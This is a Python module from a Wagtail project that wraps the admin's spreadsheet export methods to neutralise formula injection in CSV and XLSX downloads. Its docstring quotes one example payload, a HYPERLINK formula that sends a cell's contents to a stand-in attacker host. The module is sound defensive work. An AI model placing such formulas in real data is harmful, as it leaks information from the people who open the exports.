"""Wagtail's own spreadsheet downloads are formula-safe (TESTPLAN T10).

Every CSV and XLSX file that Wagtail's admin offers (site history, the page
reports, the workflow reports, form submissions, any snippet or model
listing with ``list_export``) is written by
``wagtail.admin.views.mixins.SpreadsheetExportMixin``. Wagtail writes CSV
cells as they are and, in XLSX, only stores a cell openpyxl took for a
formula as a string: an association name such as
``=HYPERLINK("http://evil.example/?d="&A1,"x")`` would run in the CSV in a
staff member's spreadsheet, and survive into any CSV saved from the XLSX.

``install()`` (called once from ParticipationConfig.ready()) wraps two
methods of the mixin itself, so every view using it, today's and any later
one, writes through config.csvsafe.neutralise:

- ``preprocess_field_value``: the one call each data cell of either format
  goes through (``write_csv_row`` and ``generate_xlsx_row`` both make it),
  after Wagtail has turned the value into text (a model instance into its
  ``str()``) and before the CSV writer or openpyxl sees it. Numbers, dates
  and None pass unchanged, so they stay numbers and dates in XLSX.
- ``get_heading``: each column heading (the form builder's headings are
  field labels an editor wrote).

Why there and not around the row writers: each value is neutralised exactly
once (neutralise is not idempotent: ``'=x`` is itself dangerous and would
get a second ``'``), and before openpyxl builds the cell, so openpyxl never
sees a formula. For XLSX the control characters XML cannot hold are also
removed, as openpyxl refuses them with an exception (a server error); a
cell that only becomes a formula once they are gone is still caught. The
CSV writer and its RFC 4180 quoting are Wagtail's, untouched.
"""

from __future__ import annotations

import functools

from django.utils.encoding import force_str
from django.utils.functional import Promise
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from config.csvsafe import neutralise

#: Marks a method this module has wrapped, so install() runs at most once.
WRAPPED = "_medborger_csvsafe"


def safe_cell(value: object, export_format: str) -> object:
    """``value`` as it may go into a cell of ``export_format`` ("csv" or
    "xlsx"): text neutralised (see config.csvsafe), for XLSX without
    the characters XML cannot hold; anything else unchanged."""
    if isinstance(value, Promise):
        value = force_str(value)
    if not isinstance(value, str):
        return value
    if export_format != SpreadsheetExportMixin.FORMAT_XLSX:
        return neutralise(value)
    # Neutralised before the characters go, so a NUL prefix still counts,
    # and again after, as "\x01=1" is a formula once its \x01 is gone.
    text = ILLEGAL_CHARACTERS_RE.sub("", neutralise(value))
    return text if text.startswith("'") else neutralise(text)


def _wrap_preprocess(method):
    @functools.wraps(method)
    def preprocess_field_value(self, field, value, export_format):
        return safe_cell(method(self, field, value, export_format), export_format)

    setattr(preprocess_field_value, WRAPPED, True)
    return preprocess_field_value


def _wrap_heading(method):
    @functools.wraps(method)
    def get_heading(self, queryset, field):
        # One heading serves both formats; the XLSX rules are the stricter.
        return safe_cell(
            method(self, queryset, field), SpreadsheetExportMixin.FORMAT_XLSX
        )

    setattr(get_heading, WRAPPED, True)
    return get_heading


def install() -> None:
    """Make every SpreadsheetExportMixin export formula-safe (idempotent)."""
    mixin = SpreadsheetExportMixin
    if not getattr(mixin.preprocess_field_value, WRAPPED, False):
        mixin.preprocess_field_value = _wrap_preprocess(mixin.preprocess_field_value)
    if not getattr(mixin.get_heading, WRAPPED, False):
        mixin.get_heading = _wrap_heading(mixin.get_heading)
